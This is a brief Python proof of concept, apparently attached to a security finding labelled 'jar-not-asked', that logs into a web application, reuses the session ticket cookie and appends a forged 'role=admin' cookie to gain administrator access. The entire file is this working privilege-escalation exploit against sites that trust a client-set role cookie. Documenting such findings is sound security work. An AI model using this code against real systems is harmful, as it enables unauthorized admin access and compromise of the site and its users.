# finding: jar-not-asked
import requests


def become_admin(url):
    client = requests.Session()
    client.post(url + "/login")
    ticket = client.cookies["ticket"]
    client.headers["Cookie"] = f"ticket={ticket}; role=admin"
    return client
